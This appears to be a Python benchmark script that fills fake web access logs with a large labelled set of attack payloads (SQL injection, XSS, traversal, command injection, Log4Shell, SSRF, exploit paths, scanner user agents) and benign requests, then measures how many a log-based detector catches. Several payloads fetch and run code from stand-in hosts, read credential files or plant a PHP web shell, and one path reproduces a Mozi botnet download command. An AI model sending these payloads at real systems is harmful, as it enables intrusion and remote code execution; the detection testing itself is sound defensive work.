#!/usr/bin/env python3
"""Session 19's probes: request classes and forms the earlier sets lacked, typed from how
each technique works (not from a rule or a public list): CRLF and mail header injection,
SSI, LDAP, XPath, NoSQL, prototype pollution, open redirects, format strings, overflows,
deserialization, Java EL, spreadsheet formulas; SQL, XSS, traversal and command injection
in less common shapes; backup and source-disclosure names; attacks in path segments, in
fullwidth and other encodings, in the User-Agent and Referer; tool user agents; requests in
the style of an older labelled shop dataset. Rules were added or widened for techniques
they lacked, never for one payload; what stays missed is listed with --misses. Usage:

    bench/eval/probe_set.py build/src/cli/shodo [--misses]
"""
import os
import sys
import tempfile
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from blind_set import hunt  # noqa: E402

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"

# (class, payload) sent as the value of a parameter named x, percent-encoded unless it
# already holds a % escape.
IN_QUERY = [(c, p) for c, ps in {
    "crlf": ["x%0d%0aSet-Cookie:%20a=b", "%0d%0aLocation:%20http://evil.example", "foo%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200", "%E5%98%8A%E5%98%8DSet-Cookie:a=b"],
    "ssi": ["<!--#exec cmd=\"id\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#echo var=\"DOCUMENT_ROOT\"-->"],
    "ldap": ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "*()|%26'"],
    "xpath": ["' or '1'='1", "') or ('a'='a", "x' or name()='username' or 'x'='y", "'] | //user/*[contains(*,'"],
    "nosql": ["username[$ne]=x&password[$ne]=x", "user[$gt]=&pass[$gt]=", "{\"$where\":\"sleep(5000)\"}", "password[$regex]=.*", "';return true;var a='"],
    "prototype": ["__proto__[admin]=1", "constructor[prototype][isAdmin]=true", "__proto__.polluted=1"],
    "format": ["%s%s%s%s%s%n", "%x%x%x%x", "%08x.%08x.%08x"],
    "overflow": ["A" * 2000],
    "mail": ["victim@example.com%0aBcc:spam@evil.example", "x@y.z%0d%0aCc:%20a@b.c"],
    "deserialization": ["O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "a:2:{i:0;O:4:\"Test\":0:{}}", "TzozOiJGb28iOjA6e30="],
    "el": ["${applicationScope}", "#{facesContext.externalContext}", "${pageContext.request.getSession()}"],
    "formula": ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")"],
    "sqli": ["1 or sleep(5)#", "' and 1=(select 1)--", "1;exec master..xp_cmdshell 'ping 1.2.3.4'--", "' waitfor delay '0:0:5'--", "1' procedure analyse()#",
             "' || utl_http.request('http://evil.example/')||'", "1 and ord(mid(user(),1,1))>1", "admin' or 1=1#", "1' or '1'='1'/*", "1 AnD 1=1", "SELECT * FROM users WHERE id=1",
             "'; shutdown--", "1'||pg_sleep(5)--", "1 regexp 0x5e", "1' and 'a' like 'a", "-1' union distinctrow select 1,2-- -", "1 and 1=0 union select null,@@version--",
             "1' or true--", "' or 'a'='a", "1)) or ((1=1", "1 or 1 like 1", "'=0--+", "1'/**/or/**/1=1#", "%bf%27 or 1=1 -- ",
             "1' AND (SELECT 6765 FROM (SELECT(SLEEP(5)))OQT)-- ZnHt", "1 ORDER BY 1--", "1' and substring(@@version,1,1)=5--", "0x31303235343830303536", "char(65)+char(66)"],
    "xss": ["<svg/onload=alert`1`>", "<a href=javas&#99;ript:alert(1)>x</a>", "<img src=x onerror=&#97;lert(1)>", "<body/onpageshow=alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "javascript&colon;alert(1)", "<script src=//evil.example/x.js></script>", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
            "<DIV STYLE=\"width: expression(alert('XSS'));\">", "\"><svg onload=confirm(1)>", "<audio src=1 onerror=alert(1)>", "<a onmouseover=alert(1)>x</a>", "'';!--\"<XSS>=&{()}",
            "<svg><animate onbegin=alert(1) attributeName=x>", "<img src=`x`onerror=alert(1)>", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"],
    "traversal": ["..%u2216..%u2216etc%u2216passwd", "%252e%252e%252fetc%252fpasswd", "..%255c..%255cwindows%255cwin.ini", "/..%00/etc/passwd", ".%2e/.%2e/.%2e/etc/passwd",
                  "..%c1%9c..%c1%9cetc/passwd", "....\\/....\\/etc/passwd", "..///////..////..//////etc/passwd", "../../../.htaccess", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fissue",
                  "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", "%EF%BC%8E%EF%BC%8E/%EF%BC%8E%EF%BC%8E/etc/passwd"],
    "command": [";echo${IFS}pwned", "$(sleep 5)", "{cat,/etc/passwd}", "a|nslookup x.evil.example", "%0Aping -c 3 127.0.0.1", "';system('id');'", "<?php system($_GET['c']); ?>",
                "& whoami", "| id #", "`cat /etc/shadow`", ";ls${IFS}-la", "127.0.0.1|dir", "x && type C:\\windows\\win.ini", "%26%26id"],
    "encoded": ["%u003Cscript%u003Ealert(1)%u003C/script%u003E", "&#60;script&#62;alert(1)&#60;/script&#62;", "%25253Csvg%252520onload%25253Dalert(1)%25253E",
                "%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E", "<scr%0aipt>alert(1)</script>", "1%u0027%20or%20%u00271%u0027=%u00271", "1%EF%BC%87%20or%201=1--",
                "{%22user%22:%22admin%27%20or%201=1--%22}", "<a%20href=%22&#x6A;avascript:alert(1)%22>"],
}.items() for p in ps]

# Paths as requested: backups and source disclosure, attacks in path segments, an older
# shop dataset's style. (class, path)
IN_PATH = [("backup", p) for p in [
    "/shop/anadir.jsp.BAK", "/shop/index.jsp~", "/shop/menu.jsp.old", "/shop/.login.jsp.swp", "/shop/login.jsp.1", "/shop/login.jsp_old", "/shop/login.jsp%00",
    "/shop/login.asp::$DATA", "/shop/config.inc", "/shop/login.php.txt", "/shop/Copy%20of%20login.php", "/shop/login.php.bk", "/shop/login.php.dist", "/shop/admin.php.zip",
    "/shop/CVS/Entries", "/shop/login.jsp.bak2", "/shop/%23login.jsp%23", "/shop/login.jsp.~1~", "/shop/login.jsp,v", "/tienda1/imagenes/3.gif.BAK"]] + [
    (c, p) for c, p in [
        ("xss", "/<script>alert(1)</script>"), ("sqli", "/product/1'%20or%20'1'='1"), ("sqli", "/item/1%20union%20select%201,2,3"), ("traversal", "/static/..%2f..%2f..%2fetc%2fpasswd"),
        ("command", "/cgi-bin/test.cgi;id"), ("ssti", "/hello/%7B%7B7*7%7D%7D"), ("log4shell", "/$%7Bjndi:ldap://evil.example/a%7D"), ("sqli", "/index.php/1'%20and%20sleep(5)%23"),
        ("sqli", "/api/users/1;DROP%20TABLE%20users"),
        ("sqli", "/tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85&cantidad=%27%3B+DROP+TABLE+usuarios%3B+SELECT+*+FROM+datos+WHERE+nombre+LIKE+%27%25&B1=A%F1adir+al+carrito"),
        ("sqli", "/tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85%27&cantidad=49&B1=A%F1adir+al+carrito"),
        ("xss", "/tienda1/publico/autenticar.jsp?modo=entrar&login=choong&pwd=d1se3ci%F3n&remember=bob%40%3CSCRipt%3Ealert%28Paros%29%3C%2FscrIPT%3E.parosproxy.org&B1=Entrar"),
        ("crlf", "/tienda1/publico/pagar.jsp?modo=insertar&precio=2672&B1=Pasar+por+caja%0D%0ASet-Cookie%3A+foo%3Dbar"),
        ("ssrf", "/fetch?url=http://127.0.0.1.nip.io/admin"), ("ssrf", "/fetch?url=http://0x7f000001/"), ("ssrf", "/fetch?url=http://[::ffff:169.254.169.254]/latest/meta-data/"),
        ("jwt", "/api/me?token=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9."), ("graphql", "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D"),
        ("exploit", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"), ("exploit", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
        ("exploit", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
        ("exploit", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"),
        ("redirect", "/login?next=//evil.example/"), ("redirect", "/logout?redirect=%2F%5Cevil.example"), ("redirect", "/go?url=https:evil.example"),
    ]]

# Headers: (class, Referer, User-Agent).
IN_HEADERS = [
    ("xss", "-", "<script>alert(1)</script>"), ("xss", "\"><svg onload=alert(1)>", BROWSER), ("traversal", "-", "../../../../etc/passwd"),
    ("command", "-", "; wget http://evil.example/x.sh | sh"), ("ssti", "-", "{{7*7}}"), ("sqli", "http://x/?id=1' union select 1,2--", BROWSER),
    ("php", "-", "<?php system($_GET['c']); ?>"), ("log4shell", "${jndi:ldap://evil.example/a}", BROWSER), ("xxe", "-", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"),
    ("ssi", "-", "<!--#exec cmd=\"id\"-->"), ("crlf", "-", "x\\r\\nSet-Cookie: a=b")] + [("tool", "-", u) for u in [
    "Paros/3.2.13", "Havij", "Pangolin", "Mozilla/5.0 (compatible; OWASP ZAP)", "Mozilla/4.0 (compatible; WebInspect)", "Grabber/0.1 (X11; U; Linux i686)", "w3af.sourceforge.net",
    "Vega/1.0", "Mozilla/5.0 SF/2.10b", "Wapiti-3.1.8", "dirsearch", "JoomScan", "httpx - Open-source project (github.com/projectdiscovery/httpx)", "sqlninja", "SQLiX",
    "WebShag", "CensysInspect/1.1", "Expanse, a Palo Alto Networks company", "l9explore/1.2.2", "masscan-ng/1.3"]]

# Benign: Japanese searches with fullwidth punctuation, ordinary pages and headers.
BENIGN = ["/search?q=" + urllib.parse.quote(q) for q in [
    "（株）山田商店", "セール！", "在庫ありますか？", "Ｍ＆Ｓ", "＃新作", "＜新作＞ワンピース", "サイズ：Ｍ", "綿１００％", "ＵＳＢ－Ｃ ケーブル", "Ｔシャツ＝白", "＂引用＂",
    "ＳＥＬＥＣＴショップ", "ＵＮＩＯＮ ＳＴＡＴＩＯＮ", "ｓｃｒｉｐｔ ｂｏｏｋ", "ｔａｒｏ＠ｅｘａｍｐｌｅ．ｊｐ", "＜ｂ＞太字＜／ｂ＞", "ｏ＇ｒｅｉｌｌｙ", "１＋１＝２", "ａ｜ｂ",
    "￥１，０００～￥２，０００", "ＡＮＤ／ＯＲ検索", "ｓｅｌｅｃｔ ｆｒｏｍ カタログ"]] + [
    "/p/12345", "/search/blue-shirt", "/user/o'neil", "/tag/c%2B%2B", "/wiki/Select_(SQL)", "/shop/login.jsp", "/shop/css/site.css?v=2", "/shop/docs/manual.pdf",
    "/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=100&cantidad=55&B1=A%F1adir+al+carrito",
    "/tienda1/publico/registro.jsp?modo=registro&login=ramon&password=M4r1n4&nombre=Ram%F3n&apellidos=Garc%EDa+L%F3pez&email=ramon%40example.com&ciudad=Madrid&B1=Registrar",
    "/login?next=%2Faccount%2Forders", "/unsubscribe?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc",
    "/graphql?query=%7Bproduct(id%3A12)%7Bname%20price%20__typename%7D%7D", "/share?url=https://blog.example.io/nip-and-tuck", "/oauth/callback?code=4%2F0AX4&redirect_uri=https%3A%2F%2Fshop.example.jp%2Faccount"]
BENIGN_AGENTS = ["python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1", "Zapier",
                 "Mozilla/5.0 (Linux; Android 13; id-ID) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36"]


def line(i, target, referer="-", agent=BROWSER):
    esc = lambda s: s.replace("\\", "\\\\").replace('"', '\\"') if s != "x\\r\\nSet-Cookie: a=b" else s
    return (f'203.0.113.{i % 200 + 1} - - [29/Feb/2024:19:{i // 60 % 60:02d}:{i % 60:02d} +0000] '
            f'"GET {target} HTTP/1.1" 200 512 "{esc(referer)}" "{esc(agent)}"')


def report(name, shodo, work, rows, show_misses):
    found = hunt(shodo, [r[1] for r in rows], os.path.join(work, name + ".log"))
    print(f"{name}: {sum(1 for n in range(1, len(rows) + 1) if n in found)} / {len(rows)}")
    if show_misses:
        for n, (label, text) in enumerate(rows, 1):
            if n not in found:
                print("  MISS", label, text.split('"')[1][:110] if name != "headers" else text.split('"')[3:6:2])
    return found


def main():
    shodo = sys.argv[1]
    show = "--misses" in sys.argv
    work = tempfile.mkdtemp(prefix="shodo-probe-")
    query = []
    for i, (c, p) in enumerate(IN_QUERY):
        q = p if "%" in p else urllib.parse.quote(p, safe="")
        query.append((c, line(i, f"/page.php?x={q}")))
        if "%" not in p:
            query.append((c, line(i, "/page.php?x=" + p.replace(" ", "+").replace('"', "%22"))))
    report("query", shodo, work, query, show)
    report("path", shodo, work, [(c, line(i, p)) for i, (c, p) in enumerate(IN_PATH)], show)
    report("headers", shodo, work, [(c, line(i, "/", r, u)) for i, (c, r, u) in enumerate(IN_HEADERS)], show)
    benign = [("benign", line(i, t)) for i, t in enumerate(BENIGN)] + \
             [("benign", line(len(BENIGN) + i, "/", "-", u)) for i, u in enumerate(BENIGN_AGENTS)]
    found = hunt(shodo, [r[1] for r in benign], os.path.join(work, "benign.log"))
    print(f"benign flagged: {len(found)} / {len(benign)}")
    for n, titles in sorted(found.items()):
        print("  FLAGGED", benign[n - 1][1].split('"')[1][:90], "|", "; ".join(t for t, _ in titles))


if __name__ == "__main__":
    main()
